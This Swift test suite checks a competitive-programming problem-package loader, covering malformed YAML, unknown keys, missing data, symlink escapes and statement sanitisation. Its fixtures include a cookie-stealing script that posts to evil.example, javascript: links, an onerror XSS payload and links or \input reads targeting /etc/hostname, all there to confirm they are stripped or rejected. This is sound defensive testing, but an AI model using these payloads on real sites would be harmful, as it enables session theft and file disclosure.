import Foundation
import Testing
@testable import ProblemPackage

/// Loads `package`, expecting failure; returns every problem found.
func loadProblems(_ package: TempPackage, options: LoadOptions = LoadOptions()) -> [PackageProblem] {
    loadFailure(package, options: options)?.problems ?? []
}

/// Loads `package`, expecting failure; returns the error (problems and warnings).
func loadFailure(_ package: TempPackage, options: LoadOptions = LoadOptions()) -> PackageProblems? {
    do {
        _ = try ProblemPackage.load(at: package.root, options: options)
        Issue.record("the package loaded, but it is broken")
        return nil
    } catch let error as PackageProblems {
        return error
    } catch {
        Issue.record("unexpected error \(error)")
        return nil
    }
}

/// Each kind of bad input gets a clear message naming the file.
@Suite struct BrokenPackageTests {
    @Test func theValidTemplateLoads() throws {
        let package = try TempPackage()
        defer { package.delete() }
        let loaded = try ProblemPackage.load(at: package.root)
        #expect(loaded.formatVersion == .v2025)
        #expect(loaded.metadata.timeLimit == 1.5 && loaded.metadata.memoryMiB == 256)
        #expect(loaded.metadata.credits == "Ada Lovelace")
        #expect(loaded.warnings.isEmpty, "\(loaded.warnings)")
    }

    @Test func brokenYAMLNamesFileAndLine() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.write("problem.yaml", "problem_format_version: 2025-09\nname: [Sum\nuuid: x\n")
        let problems = loadProblems(package)
        let problem = try #require(problems.first { $0.file == "problem.yaml" })
        #expect(problem.message.hasPrefix("broken YAML"))
        #expect(problem.line != nil)
        #expect(problem.description.hasPrefix("problem.yaml:"))
    }

    @Test func unknownAndWrongTypedKeysAreReported() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.write("problem.yaml", """
            problem_format_version: 2025-09
            name: Sum
            uuid: 8ee7605a-b5d6-4b4b-9b4f-0c3a4e0d3c11
            colour: red
            limits:
              memory: lots
              time_limit: fast
              speed: 3
            validation: custom
            allow_file_writing: maybe

            """)
        let failure = try #require(loadFailure(package))
        let problems = failure.problems
        #expect(problems.allSatisfy { $0.file == "problem.yaml" })
        let messages = problems.map(\.message)
        // Unknown keys are warnings (DOMjudge ignores them); wrong values of judging keys are errors.
        let warnings = failure.warnings.map(\.message)
        #expect(warnings.contains { $0.contains("unknown key `colour`") })
        #expect(warnings.contains { $0.contains("unknown key `limits.speed`") })
        #expect(warnings.contains { $0.contains("unknown key `validation`") })  // legacy key in 2025-09
        #expect(!messages.contains { $0.contains("unknown key") })
        #expect(messages.contains { $0.contains("`limits.memory` must be a positive whole number, not \"lots\"") })
        #expect(messages.contains { $0.contains("`limits.time_limit` must be a positive number") })
        #expect(messages.contains { $0.contains("`allow_file_writing` must be true or false") })
        #expect(failure.warnings.first { $0.message.contains("colour") }?.line == 4)
    }

    @Test func unknownFormatVersion() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.write("problem.yaml", "problem_format_version: 2099-01\nname: Sum\nuuid: x\n")
        let problems = loadProblems(package)
        #expect(problems.contains { $0.file == "problem.yaml" && $0.message.contains("unknown problem_format_version \"2099-01\"") })
    }

    @Test func missingStatement() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.remove("statement")
        #expect(loadProblems(package).contains { $0.file == "statement" && $0.message.contains("problem.<lang>.md") })
    }

    @Test func missingSecretData() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.remove("data/secret")
        #expect(loadProblems(package).contains { $0.file == "data/secret" && $0.message.contains("missing") })
    }

    @Test func inWithoutAnsAndAnsWithoutIn() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.write("data/secret/2.in", "1 1\n")
        try package.write("data/secret/group/3.ans", "2\n")
        let problems = loadProblems(package)
        #expect(problems.contains { $0.file == "data/secret/2.in" && $0.message.contains("no matching .ans") })
        #expect(problems.contains { $0.file == "data/secret/group/3.ans" && $0.message.contains("no matching .in") })
    }

    @Test func symlinksInsideAreFollowedAndOutsideRejected() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.link("data/secret/2.in", to: "../sample/1.in")
        try package.link("data/secret/2.ans", to: "../sample/1.ans")
        let loaded = try ProblemPackage.load(at: package.root)
        #expect(loaded.secretCases.map(\.name) == ["secret/1", "secret/2"])

        try Data("secret\n".utf8).write(to: package.parent.appendingPathComponent("outside.txt"))
        try package.link("data/secret/3.in", to: "../../../outside.txt")
        try package.write("data/secret/3.ans", "x\n")
        try package.link("data/secret/4.in", to: "/etc/hostname")
        try package.write("data/secret/4.ans", "x\n")
        try package.link("statement/gone.png", to: "missing.png")
        let problems = loadProblems(package)
        #expect(problems.contains { $0.file == "data/secret/3.in" && $0.message.contains("outside the package") })
        #expect(problems.contains { $0.file == "data/secret/4.in" && $0.message.contains("absolute path") })
        #expect(problems.contains { $0.file == "statement/gone.png" && $0.message.contains("broken symlink") })
    }

    @Test func scriptsAndJavascriptLinksNeverReachTheHTML() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.write("statement/problem.en.md", """
            Hello <script>alert("md")</script> world.

            <script>
            document.location = "https://evil.example/?" + document.cookie
            </script>

            [click](javascript:alert(1)) and <a href="javascript:alert(2)">raw</a>
            <img src="x" onerror="alert(3)">

            """)
        let loaded = try ProblemPackage.load(at: package.root)
        let html = try #require(loaded.statements.first?.html).lowercased()
        #expect(!html.contains("<script"))
        #expect(!html.contains("document.cookie"))
        #expect(!html.contains("href=\"javascript"))
        #expect(!html.contains("onerror"))
        #expect(html.contains("click"))
        #expect(loaded.warnings.contains { $0.file == "statement/problem.en.md" && $0.message.contains("<script>") })
    }

    @Test(.enabled(if: Fixtures.hasPandoc, "pandoc is not installed"))
    func latexLinksAreSanitisedToo() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.remove("statement/problem.en.md")
        try package.write("statement/problem.en.tex", """
            \\problemname{Sum}
            Add \\href{javascript:alert(1)}{this} and $a+b$. \\input{/etc/hostname}
            \\nextsample

            """)
        let loaded = try ProblemPackage.load(at: package.root)
        let statement = try #require(loaded.statements.first)
        let html = try #require(statement.html)
        #expect(!html.lowercased().contains("javascript"))
        #expect(html.contains("<a>this</a>"))
        #expect(html.contains("\\(a+b\\)"))
        #expect(statement.inlineSamples == ["sample/1"])
        #expect(html.contains("data-sample=\"sample/1\""))
    }

    @Test func everyProblemIsReportedAtOnce() throws {
        let package = try TempPackage()
        defer { package.delete() }
        try package.write("problem.yaml", "problem_format_version: 2025-09\nname: Sum\ncolour: red\nlimits:\n  memory: lots\n")
        try package.remove("statement")
        try package.write("data/secret/2.in", "1\n")
        try package.write("data/secret/g/test_group.yaml", "max_score: [\n")
        let failure = try #require(loadFailure(package))
        let files = Set(failure.problems.map(\.file))
        #expect(files.isSuperset(of: ["problem.yaml", "statement", "data/secret/2.in", "data/secret/g/test_group.yaml"]))
        #expect(failure.warnings.contains { $0.message.contains("no `uuid`") })
        #expect(failure.warnings.contains { $0.message.contains("unknown key `colour`") })
    }
}
